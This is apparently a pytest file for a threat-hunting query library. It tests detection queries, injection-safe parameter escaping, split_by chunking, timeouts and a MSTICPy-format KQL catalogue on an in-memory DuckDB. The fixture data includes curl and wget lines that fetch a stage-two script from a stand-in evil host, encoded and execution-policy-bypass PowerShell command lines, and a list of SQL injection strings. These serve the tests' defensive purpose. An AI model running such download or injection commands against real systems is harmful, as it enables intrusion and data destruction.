"""The local driver and QueryProvider on a real DuckDB store: every packaged query, injection,
split_by, timeouts, and a MSTICPy-format KQL catalogue run through duckdb-kql."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest

from huntbook.config import Config, Secret
from huntbook.drivers.base import Driver
from huntbook.drivers.local import LocalDriver
from huntbook.errors import DriverError, ParameterError, QueryError, QueryTimeoutError
from huntbook.plugins import registry
from huntbook.schema import TABLES
from huntbook.session import QueryProvider

T0 = datetime(2024, 3, 1, tzinfo=UTC)
RANGE = {"start": "2024-03-01T00:00:00Z", "end": "2024-03-08T00:00:00Z"}


def at(day: int, hour: int = 0, minute: int = 0) -> datetime:
    """A time in the test week: day 0 is 2024-03-01."""
    return T0 + timedelta(days=day, hours=hour, minutes=minute)


class MemoryStore:
    """A LocalStore stand-in: an in-memory DuckDB with every schema table, holding ``rows``."""

    def __init__(self, rows: dict[str, list[dict[str, Any]]]) -> None:
        self.rows = rows
        self.connects = 0

    def connect(self) -> duckdb.DuckDBPyConnection:
        self.connects += 1
        con = duckdb.connect()
        con.execute("SET TimeZone = 'UTC'")
        for table, columns in TABLES.items():
            con.execute(
                f'CREATE TABLE "{table}" (' + ", ".join(f'"{c}" {t}' for c, t in columns.items()) + ")"
            )
            for row in self.rows.get(table, []):
                names = ", ".join(f'"{c}"' for c in row)
                marks = ", ".join("?" for _ in row)
                con.execute(f'INSERT INTO "{table}" ({names}) VALUES ({marks})', list(row.values()))
        return con


def proc(key: str, when: datetime, host: str, cmd: str, **extra: Any) -> dict[str, Any]:
    return {
        "TimeGenerated": when,
        "EventKey": key,
        "DvcHostname": host,
        "EventType": "ProcessCreated",
        "TargetProcessCommandLine": cmd,
        **extra,
    }


PROCESS = [
    proc(
        "p01",
        at(0, 10),
        "WS01.corp.local",
        "powershell.exe -NoP -enc SQBFAFgA",
        TargetProcessName=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ActingProcessName=r"C:\Windows\System32\cmd.exe",
        ActorUsername=r"CORP\alice",
        ActorSessionId="0x3e7",
        TargetUsername=r"CORP\alice",
        TargetUserSessionId="0x1a2b",
        TargetProcessMD5="0123456789ABCDEF0123456789ABCDEF",
    ),
    proc(
        "p02",
        at(1, 11),
        "ws01",
        "cmd.exe /c whoami",
        TargetProcessName=r"C:\Windows\System32\cmd.exe",
        ActingProcessName=r"C:\Windows\explorer.exe",
        ActorUsername="alice@corp.local",
        TargetUserSessionId="0x1a2b",
    ),
    proc(
        "p03",
        at(1, 12),
        "WS01.corp.local",
        "cmd.exe /c whoami",
        EventType="ProcessTerminated",
        TargetProcessName=r"C:\Windows\System32\cmd.exe",
        ActorUsername=r"CORP\alice",
    ),
    proc(
        "p04",
        at(2, 9),
        "WS02.corp.local",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
        TargetProcessName="powershell.exe",
        ActingProcessName=r"C:\Tools\notcmd.exe",
        ActorUsername=r"OTHER\alice",
        ActorSessionId="0x3e7",
    ),
    proc(
        "p05",
        at(2, 10),
        "WS02.corp.local",
        "pwsh /EncodedCommand ZQBjAGgAbwA=",
        TargetProcessName="pwsh.exe",
        ActingProcessName="/usr/bin/cmd.exe",
        ActorUsername="bob",
    ),
    proc(
        "p06",
        at(3, 8),
        "WS03",
        "PowerShell.exe -EC ZQBj",
        TargetProcessName="powershell.exe",
        TargetUsername=r"CORP\carol",
        TargetProcessSHA256="AA" * 32,
    ),
    proc(
        "p07",
        at(3, 9),
        "WS03",
        "python -c \"[System.Convert]::FromBase64String('aGk=')\"",
        TargetProcessName="python.exe",
    ),
    proc(
        "p08",
        at(4, 0),
        "WS01X.corp.local",
        "perl -e 'print 1' 50%_done",
        TargetProcessName="perl.exe",
        ActingProcessName="cmd.exe",
    ),
    proc(
        "p09",
        datetime(2024, 2, 1, tzinfo=UTC),
        "WS01",
        "powershell -enc OLD",
        TargetProcessName="powershell.exe",
    ),
    proc("p10", at(4, 5), "ws02", "powershell \u2013EnC abc", TargetProcessName="powershell.exe"),
    proc("p11", at(5, 1), "WS02", "powershell Get-Thing -Enabled true", TargetProcessName="powershell.exe"),
    proc("p12", at(5, 2), "WS03", "powershell -ex bypass -e JABzAD0A", TargetProcessName="powershell.exe"),
    proc("p13", at(6, 0), "WS03", "notepad 5000done", TargetProcessName="notepad.exe"),
    proc("p14", at(7, 0), "WS01", "cmd /c exit", TargetProcessName="cmd.exe"),  # at RANGE end: excluded
    proc("p15", at(3, 7), "WS09", "curl -o s HTTP://Evil.example/stage2.ps1", TargetProcessName="curl.exe"),
    proc("p16", at(3, 8), "WS09", "wget evil.example/other", TargetProcessName="wget.exe"),
    proc("p17", at(3, 9), "WS09", "ping evil.example", TargetProcessName="ping.exe"),  # the host, no path
]


def auth(key: str, when: datetime, user: str, result: str, **extra: Any) -> dict[str, Any]:
    return {
        "TimeGenerated": when,
        "EventKey": key,
        "EventType": "Logon",
        "EventResult": result,
        "TargetUsername": user,
        **extra,
    }


def _auth_rows() -> list[dict[str, Any]]:
    rows = [
        auth(
            "a01",
            at(0, 9),
            r"CORP\alice",
            "Success",
            DvcHostname="WS01.corp.local",
            SrcIpAddr="10.0.0.5",
            LogonType=10,
        ),
        auth(
            "a02",
            at(1, 9),
            "alice@corp.local",
            "Success",
            DvcHostname="dc01",
            TargetHostname="WS02",
            SrcIpAddr="10.0.0.6",
        ),
        auth("a03", at(1, 10), r"OTHER\alice", "Failure", DvcHostname="WS03", SrcIpAddr="10.0.0.7"),
        auth("a04", at(2, 10), "ALICE", "Failure", DvcHostname="ws01", SrcIpAddr="-", SrcHostname="LAPTOP9"),
        auth("a05", at(2, 11), r"CORP\alice", "Success", DvcHostname="WS01", EventType="Logoff"),
    ]
    rows += [
        auth(
            f"s{i:02d}", at(3, 1, i), f"CORP\\user{i}", "Failure", DvcHostname="DC01", SrcIpAddr="203.0.113.5"
        )
        for i in range(6)
    ]
    rows += [
        auth(
            f"t{i:02d}",
            at(3, 2, i),
            f"CORP\\user{i}",
            "Failure",
            DvcHostname="DC01",
            SrcIpAddr="198.51.100.7",
        )
        for i in range(3)
    ]
    rows += [
        auth(
            f"h{i:02d}",
            at(3, 3, i),
            f"CORP\\svc{i}",
            "Failure",
            DvcHostname="DC01",
            SrcIpAddr="-",
            SrcHostname="KALI",
        )
        for i in range(5)
    ]
    rows += [
        auth(f"b{i:02d}", at(4, 1, i), r"CORP\admin", "Failure", DvcHostname="DC01", SrcIpAddr="198.51.100.9")
        for i in range(12)
    ]
    rows.append(auth("b99", at(4, 2), r"CORP\admin", "Success", DvcHostname="DC01", SrcIpAddr="198.51.100.9"))
    rows.append(
        auth("old", datetime(2024, 2, 1, tzinfo=UTC), r"CORP\alice", "Failure", SrcIpAddr="203.0.113.5")
    )
    return rows


AUTH = _auth_rows()


def flow(
    key: str, when: datetime, src: str, dst: str, out: int, into: int, host: str = "sensor01"
) -> dict[str, Any]:
    return {
        "TimeGenerated": when,
        "EventKey": key,
        "DvcHostname": host,
        "SrcIpAddr": src,
        "DstIpAddr": dst,
        "SrcBytes": out,
        "DstBytes": into,
        "NetworkProtocol": "TCP",
    }


NETWORK = [
    flow("n01", at(0, 10, 5), "10.0.0.5", "203.0.113.80", 1000, 50000, host="WS01.corp.local"),
    flow("n02", at(0, 10, 45), "10.0.0.5", "203.0.113.80", 3000, 1000, host="WS01.corp.local"),
    flow("n03", at(0, 11, 0), "10.0.0.6", "8.8.8.8", 100, 200),
    flow("n04", at(0, 11, 30), "10.0.0.5", "10.0.0.1", 999999, 999999),
    flow("n05", at(1, 0), "203.0.113.80", "10.0.0.5", 10, 20),
    flow("n06", at(1, 1), "10.0.0.7", "172.20.1.1", 5, 5),
    flow("n07", at(1, 2), "10.0.0.7", "192.168.1.1", 5, 5),
    flow("n08", at(1, 3), "10.0.0.7", "fe80::1", 5, 5),
    flow("n09", at(1, 4), "10.0.0.7", "2001:db8::5", 7000, 1),
    flow("n10", at(1, 5), "10.0.0.7", "172.32.0.1", 60, 0),  # 172.32 is public
    flow("n11", at(1, 6), "10.0.0.7", "127.0.0.1", 9, 9),
    flow("n12", at(1, 7), "10.0.0.7", "100.64.3.3", 9, 9),
]

DNS = [
    {
        "TimeGenerated": at(0, 1),
        "EventKey": "d01",
        "DvcHostname": "WS01.corp.local",
        "DnsQuery": "evil.example.com",
    },
    {"TimeGenerated": at(0, 2), "EventKey": "d02", "DvcHostname": "ws02", "DnsQuery": "EXAMPLE.COM."},
    {"TimeGenerated": at(0, 3), "EventKey": "d03", "DvcHostname": "WS01", "DnsQuery": "notexample.com"},
    {
        "TimeGenerated": at(0, 4),
        "EventKey": "d04",
        "DvcHostname": "WS03",
        "DnsQuery": "www.example.com.evil.net",
    },
]

ALERTS = [
    {
        "TimeGenerated": at(0, 5),
        "EventKey": "al1",
        "AlertName": "ET TROJAN",
        "SrcIpAddr": "10.0.0.5",
        "DstIpAddr": "203.0.113.80",
        "AlertSeverity": "High",
    },
    {
        "TimeGenerated": at(2, 5),
        "EventKey": "al2",
        "AlertName": "ET SCAN",
        "SrcIpAddr": "198.51.100.7",
        "DstIpAddr": "10.0.0.1",
        "AlertSeverity": "Low",
    },
    {"TimeGenerated": at(9, 0), "EventKey": "al3", "AlertName": "late", "SrcIpAddr": "10.0.0.5"},
]

EVENTS = [
    {
        "TimeGenerated": at(0, 1),
        "EventKey": "e01",
        "EventFormat": "evtx",
        "Channel": "Security",
        "EventID": 4688,
        "Computer": "WS01.corp.local",
        "raw": '{"EventID": 4688}',
    },
    {
        "TimeGenerated": at(0, 2),
        "EventKey": "e02",
        "EventFormat": "evtx",
        "Channel": "Security",
        "EventID": 4624,
        "Computer": "ws01",
        "raw": '{"EventID": 4624}',
    },
    {
        "TimeGenerated": at(0, 3),
        "EventKey": "e03",
        "EventFormat": "evtx",
        "Channel": "Security",
        "EventID": 4688,
        "Computer": "WS02",
        "raw": '{"EventID": 4688}',
    },
    {
        "TimeGenerated": at(0, 4),
        "EventKey": "e04",
        "EventFormat": "zeek_json",
        "Channel": "conn",
        "Computer": "sensor01",
        "raw": '{"uid": "C1"}',
    },
]

ROWS = {
    "process_events": PROCESS,
    "authentication": AUTH,
    "network_sessions": NETWORK,
    "dns": DNS,
    "alerts": ALERTS,
    "events": EVENTS,
}


def frame(table: str) -> pd.DataFrame:
    """The test rows of ``table`` as a DataFrame with every schema column (for independent expectations)."""
    data = pd.DataFrame(ROWS[table]).reindex(columns=list(TABLES[table]))
    return data[(data["TimeGenerated"] >= T0) & (data["TimeGenerated"] < at(7))]


@pytest.fixture
def qp() -> QueryProvider:
    return QueryProvider("local", store=MemoryStore(ROWS), config=Config())


def keys(result: pd.DataFrame) -> list[str]:
    return list(result["EventKey"])


# ------------------------------------------------------------------------------ packaged queries
# Expected EventKeys, in order, for the row-level queries.
ROW_QUERIES: dict[str, tuple[dict[str, Any], list[str]]] = {
    "process.host_processes": ({"host_name": "WS01"}, ["p01", "p02"]),
    "process.account_processes": ({"account_name": r"corp\ALICE"}, ["p01", "p02"]),
    "process.logon_session_processes": ({"logon_session_id": "0x1a2b"}, ["p01", "p02"]),
    "process.encoded_commands": ({}, ["p01", "p05", "p06", "p07", "p10", "p12"]),
    "process.command_line_search": ({"pattern": "0%_d"}, ["p08"]),
    "process.process_children": ({"process_name": "CMD.EXE"}, ["p01", "p05", "p08"]),
    "process.processes_by_hash": ({"file_hash": "aa" * 32}, ["p06"]),
    "process.url_command_lines": ({"url": "http://evil.example/stage2.ps1"}, ["p15", "p16"]),
    "authentication.account_logons": ({"account_name": "alice"}, ["a01", "a02", "a03", "a04"]),
    "authentication.host_logons": ({"host_name": "ws02.corp.local"}, ["a02"]),
    "authentication.failed_logons": ({"host_name": "WS03"}, ["a03"]),
    "authentication.logons_from_ip": ({"ip_address": "198.51.100.7"}, ["t00", "t01", "t02"]),
    "network.ip_connections": ({"ip_address": "203.0.113.80"}, ["n01", "n02", "n05"]),
    "network.host_connections": ({"host_name": "ws01"}, ["n01", "n02"]),
    "dns.domain_queries": ({"domain": "Example.com"}, ["d01", "d02"]),
    "dns.host_dns": ({"host_name": "WS01"}, ["d01", "d03"]),
    "alerts.list_alerts": ({}, ["al1", "al2"]),
    "alerts.alerts_for_ip": ({"ip_address": "198.51.100.7"}, ["al2"]),
    "events.host_events": ({"host_name": "WS01", "event_id": 4688}, ["e01"]),
    "events.events_by_key": ({"event_keys": ["e04", "e02", "nope"]}, ["e02", "e04"]),
}
AGGREGATE_QUERIES = {
    "authentication.password_spray",
    "authentication.brute_force",
    "authentication.rare_logon_sources",
    "network.hourly_traffic",
    "network.top_destinations",
    "process.rare_processes",
    "events.event_counts",
}


def test_every_packaged_query_is_tested(qp: QueryProvider) -> None:
    assert set(qp.list_queries()) == set(ROW_QUERIES) | AGGREGATE_QUERIES


@pytest.mark.parametrize("name", sorted(ROW_QUERIES))
def test_row_query_returns_expected_rows(qp: QueryProvider, name: str) -> None:
    params, expected = ROW_QUERIES[name]
    spec = qp.query_spec(name)
    if spec.time_range:
        params = {**RANGE, **params}
    result = qp.run(name, **params)
    assert keys(result) == expected
    assert str(result["TimeGenerated"].dtype) == "datetime64[us, UTC]"


def test_host_processes_alias_and_optional_filters(qp: QueryProvider) -> None:
    assert keys(qp.process.host_processes(host="ws01.CORP.local", **RANGE)) == ["p01", "p02"]
    assert keys(qp.process.encoded_commands(host_name="ws02", **RANGE)) == ["p05", "p10"]
    assert keys(qp.process.logon_session_processes(logon_id="0x3e7", host_name="WS02", **RANGE)) == ["p04"]
    assert keys(qp.process.account_processes(account_name="alice", **RANGE)) == ["p01", "p02", "p04"]
    assert keys(qp.process.account_processes(account_name="alice@OTHER.example", **RANGE)) == ["p04"]
    assert keys(qp.authentication.failed_logons(**RANGE)) == [
        r["EventKey"] for r in AUTH if r["EventResult"] == "Failure" and r["EventKey"] != "old"
    ]
    assert keys(qp.events.host_events(host_name="WS01", **RANGE)) == ["e01", "e02"]


def test_password_spray_matches_pandas(qp: QueryProvider) -> None:
    result = qp.authentication.password_spray(min_accounts=3, **RANGE)
    rows = frame("authentication")
    rows = rows[(rows["EventType"] == "Logon") & (rows["EventResult"] == "Failure")].copy()
    ip = rows["SrcIpAddr"].where(~rows["SrcIpAddr"].isin(["-", ""]))
    rows["Source"] = ip.fillna(rows["SrcHostname"])
    rows["Account"] = rows["TargetUsername"].str.lower()
    expected = (
        rows.groupby("Source")
        .agg(
            DistinctAccounts=("Account", "nunique"),
            Failures=("Account", "size"),
            FirstSeen=("TimeGenerated", "min"),
            LastSeen=("TimeGenerated", "max"),
            Accounts=("Account", lambda s: sorted(set(s))),
        )
        .reset_index()
    )
    expected = expected[expected["DistinctAccounts"] >= 3].sort_values(
        ["DistinctAccounts", "Source"], ascending=[False, True]
    )
    assert list(result["Source"]) == list(expected["Source"]) == ["203.0.113.5", "KALI", "198.51.100.7"]
    assert list(result["SourceType"]) == ["ip", "hostname", "ip"]
    for column in ("DistinctAccounts", "Failures", "FirstSeen", "LastSeen", "Accounts"):
        assert list(result[column]) == list(expected[column]), column
    assert list(qp.authentication.password_spray(**RANGE)["Source"]) == ["203.0.113.5", "KALI"]


def test_brute_force_counts_failures_and_later_success(qp: QueryProvider) -> None:
    result = qp.authentication.brute_force(**RANGE)
    assert result[["TargetUsername", "Source", "Failures", "Successes"]].values.tolist() == [
        [r"corp\admin", "198.51.100.9", 12, 1]
    ]
    assert result["FirstFailure"].iloc[0] == at(4, 1, 0) and result["LastFailure"].iloc[0] == at(4, 1, 11)
    assert len(qp.authentication.brute_force(min_failures=6, **RANGE)) == 1
    assert qp.authentication.brute_force(min_failures=13, **RANGE).empty


def test_rare_logon_sources(qp: QueryProvider) -> None:
    result = qp.authentication.rare_logon_sources(max_logons=1, **RANGE)
    assert result[["Source", "Logons", "Accounts"]].values.tolist() == [
        ["10.0.0.5", 1, [r"corp\alice"]],
        ["10.0.0.6", 1, ["alice@corp.local"]],
        ["198.51.100.9", 1, [r"corp\admin"]],
    ]


def test_hourly_traffic_matches_pandas(qp: QueryProvider) -> None:
    result = qp.network.hourly_traffic(**RANGE)
    rows = frame("network_sessions")
    expected = (
        rows.assign(TimeGenerated=rows["TimeGenerated"].dt.floor("h"))
        .groupby(["TimeGenerated", "DstIpAddr"])
        .agg(Connections=("EventKey", "size"), BytesOut=("SrcBytes", "sum"), BytesIn=("DstBytes", "sum"))
        .reset_index()
    )
    assert result.values.tolist() == expected.values.tolist()
    only = qp.network.hourly_traffic(ip_address="203.0.113.80", **RANGE)
    assert only[["DstIpAddr", "Connections", "BytesOut", "BytesIn"]].values.tolist() == [
        ["203.0.113.80", 2, 4000, 51000],
        ["10.0.0.5", 1, 10, 20],
    ]


def test_top_destinations_excludes_internal_addresses(qp: QueryProvider) -> None:
    result = qp.network.top_destinations(**RANGE)
    assert list(result["DstIpAddr"]) == ["203.0.113.80", "2001:db8::5", "8.8.8.8", "172.32.0.1"]
    assert result.iloc[0][["Connections", "BytesOut", "BytesIn", "TotalBytes"]].tolist() == [
        2,
        4000,
        51000,
        55000,
    ]
    assert list(qp.network.top_destinations(limit=1, **RANGE)["DstIpAddr"]) == ["203.0.113.80"]


def test_rare_processes_matches_pandas(qp: QueryProvider) -> None:
    result = qp.process.rare_processes(max_count=1, **RANGE)
    rows = frame("process_events")
    rows = rows[rows["EventType"] != "ProcessTerminated"]
    counts = rows["TargetProcessName"].str.lower().value_counts()
    assert sorted(result["TargetProcessName"]) == sorted(counts[counts <= 1].index)
    assert set(result["Count"]) == {1}
    pwsh = (
        qp.process.rare_processes(max_count=10, **RANGE).set_index("TargetProcessName").loc["powershell.exe"]
    )
    assert (pwsh["Count"], pwsh["Hosts"], pwsh["FirstCommandLine"]) == (
        5,
        3,
        "powershell -ExecutionPolicy Bypass -File x.ps1",
    )


def test_event_counts_matches_pandas(qp: QueryProvider) -> None:
    result = qp.events.event_counts(**RANGE)
    expected = (
        frame("events")
        .groupby(["EventFormat", "Channel"], dropna=False)["EventID"]
        .value_counts(dropna=False)
    )
    got = {
        (r.EventFormat, r.Channel, None if pd.isna(r.EventID) else int(r.EventID)): r.Count
        for r in result.itertuples()
    }
    assert got == {(f, c, None if pd.isna(e) else int(e)): n for (f, c, e), n in expected.items()}
    assert list(result["Count"]) == sorted(result["Count"], reverse=True)


def test_time_range_is_half_open(qp: QueryProvider) -> None:
    wide = qp.process.host_processes(host_name="WS01", start="2024-01-01", end="2024-03-09")
    assert keys(wide) == ["p09", "p01", "p02", "p14"]
    assert keys(qp.process.host_processes(host_name="WS01", start=at(1, 11), end=at(7))) == ["p02"]


# ------------------------------------------------------------------------------ injection
HOSTILE = [
    "x' OR 1=1 --",
    '"; drop table x; --',
    "back\\slash\\",
    "\\' OR ''='",
    "quote\"'mix",
    "ünï©ødé ☃ 𝄞",
    "line1\nline2\r\ttab",
    "{host_name} }} {{",
    "/* c */ -- d",
    "%_*?",
]
DECOY = "decoy"


@pytest.fixture
def hostile_qp(tmp_path: Path) -> QueryProvider:
    rows = {
        "process_events": [proc(f"h{i}", at(0, i), value, "x") for i, value in enumerate([*HOSTILE, DECOY])]
    }
    (tmp_path / "hostile.yaml").write_text(
        """
metadata:
  data_environments: [local]
  data_families: [probe]
  format: huntbook
defaults:
  parameters:
    value: {type: str, description: any text}
sources:
  sql_bare:
    args: {query: "SELECT EventKey FROM process_events WHERE DvcHostname = {value}"}
  sql_quoted:
    args: {query: "SELECT EventKey FROM process_events WHERE DvcHostname = '{value}' -- {value}"}
  sql_escape_string:
    args: {query: "SELECT EventKey FROM process_events WHERE DvcHostname = E'{value}'"}
  sql_list:
    args: {query: "SELECT EventKey FROM process_events WHERE DvcHostname IN ({values})"}
    parameters:
      values: {type: list, description: texts}
  kql_bare:
    metadata: {language: kql}
    args: {query: "process_events | where DvcHostname == {value} | project EventKey"}
  kql_double:
    metadata: {language: kql}
    args: {query: "process_events | where DvcHostname == \\"{value}\\" | project EventKey // {value}"}
  kql_single:
    metadata: {language: kql}
    args: {query: "process_events | where DvcHostname == '{value}' | project EventKey"}
  kql_verbatim:
    metadata: {language: kql}
    args: {query: "process_events | where DvcHostname == @'{value}' | project EventKey"}
  kql_list:
    metadata: {language: kql}
    args: {query: "process_events | where DvcHostname in ({values}) | project EventKey"}
    parameters:
      values: {type: list, description: texts}
""",
        encoding="utf-8",
    )
    return QueryProvider("local", store=MemoryStore(rows), query_paths=[tmp_path], config=Config())


@pytest.mark.parametrize(
    "query", ["sql_bare", "sql_quoted", "sql_escape_string", "kql_bare", "kql_double", "kql_single"]
)
@pytest.mark.parametrize("index", range(len(HOSTILE)))
def test_hostile_values_match_literally(hostile_qp: QueryProvider, query: str, index: int) -> None:
    assert keys(hostile_qp.run(f"probe.{query}", value=HOSTILE[index])) == [f"h{index}"]


@pytest.mark.parametrize("query", ["sql_list", "kql_list"])
def test_hostile_list_values_match_literally(hostile_qp: QueryProvider, query: str) -> None:
    assert sorted(keys(hostile_qp.run(f"probe.{query}", values=HOSTILE))) == sorted(
        f"h{i}" for i in range(len(HOSTILE))
    )


def test_kql_verbatim_strings_double_quotes_and_refuse_line_breaks(hostile_qp: QueryProvider) -> None:
    for index, value in enumerate(HOSTILE):
        if "\n" in value:
            with pytest.raises(ParameterError, match="line break"):
                hostile_qp.run("probe.kql_verbatim", value=value)
        else:
            assert keys(hostile_qp.run("probe.kql_verbatim", value=value)) == [f"h{index}"]


def test_packaged_query_with_hostile_host_and_nul(hostile_qp: QueryProvider) -> None:
    assert keys(
        hostile_qp.process.host_processes(host_name="x' OR 1=1 --", start="2024-03-01", end="2024-03-02")
    ) == ["h0"]
    with pytest.raises(ParameterError, match="NUL"):
        hostile_qp.process.host_processes(host_name="a\x00b")


# ------------------------------------------------------------------------------ split_by
@pytest.mark.parametrize("split_by", ["1d", "7h", timedelta(hours=13), 86400])
def test_split_by_equals_unsplit(qp: QueryProvider, split_by: Any) -> None:
    whole = qp.authentication.failed_logons(**RANGE)
    split = qp.authentication.failed_logons(split_by=split_by, **RANGE)
    pd.testing.assert_frame_equal(split, whole)
    assert len(split) == 28 and split["EventKey"].is_unique


def test_split_by_borders_do_not_duplicate(qp: QueryProvider) -> None:
    # n05 is exactly at 2024-03-02 00:00, a chunk border with split_by="1d"
    whole = qp.network.ip_connections(ip_address="10.0.0.5", **RANGE)
    split = qp.network.ip_connections(ip_address="10.0.0.5", split_by="1d", **RANGE)
    assert keys(split) == keys(whole) == ["n01", "n02", "n04", "n05"]
    texts = qp.network.ip_connections(ip_address="10.0.0.5", split_by="1d", print_query=True, **RANGE)
    assert texts.count("SELECT") == 7 and "TIMESTAMPTZ '2024-03-02 00:00:00+00:00'" in texts


def test_split_by_errors(qp: QueryProvider) -> None:
    with pytest.raises(ParameterError, match="split_by needs a query with start and end"):
        qp.events.events_by_key(event_keys=["e01"], split_by="1d")
    with pytest.raises(ParameterError, match="not a positive timespan"):
        qp.alerts.list_alerts(split_by=0, **RANGE)
    with pytest.raises(ParameterError, match="more than"):
        qp.alerts.list_alerts(split_by="1s", start="2020-01-01", end="2024-01-01")


# ------------------------------------------------------------------------------ timeouts and errors
SLOW_SQL = "SELECT count(*) FROM range(100000000) a, range(100000000) b WHERE a.range + b.range = -1"


def test_timeout_cancels_a_slow_query(qp: QueryProvider) -> None:
    began = time.monotonic()
    with pytest.raises(QueryTimeoutError, match=r"0\.5 s timeout.*raise timeout="):
        qp.exec_query(SLOW_SQL, timeout=0.5)
    assert time.monotonic() - began < 10
    assert qp.exec_query("SELECT 42 AS x")["x"].tolist() == [42]  # the connection still works


def test_provider_default_timeout_applies() -> None:
    provider = QueryProvider("local", store=MemoryStore({}), config=Config(duckdb={"timeout": 0.3}))
    assert provider.timeout == 0.3
    with pytest.raises(QueryTimeoutError):
        provider.exec_query(SLOW_SQL)


def test_kql_timeout(qp: QueryProvider) -> None:
    with pytest.raises(QueryTimeoutError):
        qp.exec_query(
            "range a from 1 to 200000 step 1 | extend k = 1"
            " | join kind=inner (range b from 1 to 200000 step 1 | extend k = 1) on k"
            " | where a + b == -1 | count",
            language="kql",
            timeout=0.5,
        )


def test_engine_errors_name_the_query(qp: QueryProvider) -> None:
    with pytest.raises(QueryError, match="ad hoc sql query.*no_such_table"):
        qp.exec_query("SELECT * FROM no_such_table")
    with pytest.raises(QueryError, match="KQL"):
        qp.exec_query("process_events | wherex", language="kql")
    with pytest.raises(QueryError, match="runs sql or kql"):
        qp.exec_query("search *", language="spl")


def test_driver_without_store_explains_the_fix() -> None:
    provider = QueryProvider("local", config=Config())
    assert "SELECT" in provider.process.host_processes(host_name="x", print_query=True)
    with pytest.raises(DriverError, match="no store.*LocalStore"):
        provider.process.host_processes(host_name="x")


def test_driver_direct_use_and_utc() -> None:
    with LocalDriver(store=MemoryStore(ROWS)) as driver:
        result = driver.execute("SELECT TIMESTAMP '2024-01-01 10:00:00' AS naive, list_value(1, 2) AS l")
        assert str(result["naive"].dtype) == "datetime64[us, UTC]"
        assert result["l"].iloc[0] == [1, 2]
        assert driver.literal(datetime(2024, 1, 1, tzinfo=UTC), "datetime") == (
            "TIMESTAMPTZ '2024-01-01 00:00:00+00:00'"
        )
        assert driver.literal(["a'b", 3], "list", None, "kql") == '"a\'b", 3'
    assert not driver.connected


def test_store_path_builds_a_localstore(tmp_path: Path) -> None:
    provider = QueryProvider("local", store=tmp_path / "case", config=Config())
    assert type(provider.driver.store).__name__ == "LocalStore"
    result = provider.process.host_processes(host_name="WS01", **RANGE)
    assert result.empty and "TargetProcessCommandLine" in result.columns


# ------------------------------------------------------------------------------ MSTICPy catalogue through KQL
MSTICPY_FILE = """
metadata:
  version: 1
  description: Windows process queries (MSTICPy layout)
  data_environments: [LogAnalytics, LocalData]
  data_families: [WindowsSecurity]
  tags: ['process', 'windows']
defaults:
  metadata:
    data_source: 'process_events'
  parameters:
    table:
      description: Table name
      type: str
      default: 'process_events'
    start:
      description: Query start time
      type: datetime
    end:
      description: Query end time
      type: datetime
    add_query_items:
      description: Additional query clauses
      type: str
      default: ''
    path_separator:
      description: Path separator
      type: str
      default: '\\\\'
sources:
  list_host_processes:
    description: Returns list of processes on a host for a time range
    metadata:
      pivot:
        short_name: processes
    args:
      query: '
        {table}
        | where DvcHostname {host_op} "{host_name}"
        | where TimeGenerated >= datetime({start})
        | where TimeGenerated < datetime({end})
        | extend ImageName = tostring(split(TargetProcessName, "{path_separator}")[-1])
        | project TimeGenerated, EventKey, DvcHostname, ImageName
        | order by TimeGenerated asc
        {add_query_items}'
    parameters:
      host_name:
        description: Name of host
        type: str
      host_op:
        description: The hostname match operator
        type: str
        default: has
  list_processes_in_session:
    description: Processes for logon sessions
    args:
      query: '
        {table}
        | where TimeGenerated >= datetime({start})
        | where TimeGenerated < datetime({end})
        | where TargetUserSessionId in~ ({session_ids})
        | order by EventKey asc
        {add_query_items}'
    parameters:
      session_ids:
        description: Logon session ids
        type: list
"""


@pytest.fixture
def msticpy_qp(tmp_path: Path) -> QueryProvider:
    (tmp_path / "kql_winevent_proc.yaml").write_text(MSTICPY_FILE, encoding="utf-8")
    return QueryProvider("local", store=MemoryStore(ROWS), query_paths=[tmp_path], config=Config())


def test_msticpy_file_runs_as_kql_on_the_local_store(msticpy_qp: QueryProvider) -> None:
    spec = msticpy_qp.query_spec("WindowsSecurity.list_host_processes")
    assert (spec.language, spec.dialect, spec.family) == ("kql", "msticpy", "windowssecurity")
    types = {name: p.type for name, p in spec.parameters.items()}
    assert types["table"] == "identifier" and types["add_query_items"] == "fragment"
    assert types["host_op"] == "fragment" and types["host_name"] == "str"
    result = msticpy_qp.WindowsSecurity.list_host_processes(host_name="ws02", **RANGE)
    assert keys(result) == ["p04", "p05", "p10", "p11"]
    assert list(result["ImageName"]) == ["powershell.exe", "pwsh.exe", "powershell.exe", "powershell.exe"]
    limited = msticpy_qp.windowssecurity.list_host_processes(
        host_name="WS02", host_op="==", add_query_items="| take 5", **RANGE
    )
    assert keys(limited) == ["p11"]  # == is exact and case-sensitive: only DvcHostname 'WS02'
    sessions = msticpy_qp.run("list_processes_in_session", session_ids=["0X1A2B", "0x3e7"], **RANGE)
    assert keys(sessions) == ["p01", "p02"]


def test_msticpy_rendering_keeps_author_text_and_escapes_caller_values(msticpy_qp: QueryProvider) -> None:
    text = msticpy_qp.WindowsSecurity.list_host_processes(
        host_name='a"b\\c', start="2024-03-01", end="2024-03-02", print_query=True
    )
    assert 'where DvcHostname has "a\\"b\\\\c"' in text
    assert "datetime(2024-03-01T00:00:00Z)" in text
    assert 'split(TargetProcessName, "\\\\")' in text  # the default, as the author wrote it
    assert text.strip().startswith("process_events | where")
    with pytest.raises(ParameterError, match="table=.*not a valid table or column name"):
        msticpy_qp.WindowsSecurity.list_host_processes(host_name="x", table="t | take 1", **RANGE)
    with pytest.raises(ParameterError, match="missing required parameter 'start'"):
        msticpy_qp.WindowsSecurity.list_host_processes(host_name="x")


# ------------------------------------------------------------------------------ driver contract
class EchoDriver(Driver):
    """A minimal third-party driver: returns the text it was asked to run."""

    name = "echo"
    languages = ("kql",)

    def execute(
        self, text: str, language: str | None = None, timeout: float | None = None, *, name: str | None = None
    ) -> pd.DataFrame:
        if "boom" in text:
            raise RuntimeError("server said no")
        return pd.DataFrame({"text": [text], "language": [language], "timeout": [timeout], "name": [name]})


def test_third_party_driver_gets_settings_literals_and_wrapped_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(registry("huntbook.drivers")._manual, "echo", EchoDriver)
    monkeypatch.setenv("ECHO_TOKEN", "s3cret")
    (tmp_path / "echo.yaml").write_text(
        """
metadata: {data_environments: [echo, local], data_families: [Echo], language: kql, format: huntbook}
sources:
  hello:
